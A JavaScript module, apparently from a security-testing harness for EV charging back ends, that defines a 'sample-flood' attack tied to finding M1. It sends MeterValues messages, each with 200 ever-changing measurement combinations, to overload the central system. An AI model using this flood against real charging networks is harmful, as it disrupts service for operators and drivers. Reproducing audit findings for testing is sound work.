import { defineAttack } from '../attack.js'
import { sendFromAll } from '../calls.js'

const phases = ['L1', 'L2', 'L3', 'N', 'L1-N', 'L2-N', 'L3-N', 'L1-L2', 'L2-L3', 'L3-L1']
const contexts = ['Sample.Periodic', 'Sample.Clock', 'Trigger', 'Transaction.Begin', 'Transaction.End', 'Other']
const locations = ['Body', 'Cable', 'EV', 'Inlet', 'Outlet']

export const sampleFlood = defineAttack({
  name: 'sample-flood',
  finding: 'M1',
  does: 'One charge point sends MeterValues of one instant with ever new combinations at the allowed rate.',
  chargePoints: 1,
  run: (attacker) =>
    sendFromAll(attacker, (number) => [
      'MeterValues',
      {
        connectorId: 1 + Math.floor(number / 300),
        meterValue: [
          {
            timestamp: '2026-11-01T00:00:00.000Z',
            sampledValue: Array.from({ length: 200 }, (_, at) => ({
              value: String(number + at),
              measurand: 'Current.Import',
              unit: 'A',
              phase: phases[(number + at) % phases.length],
              context: contexts[Math.floor((number + at) / 10) % contexts.length],
              location: locations[Math.floor((number + at) / 60) % locations.length],
            })),
          },
        ],
      },
    ]),
})
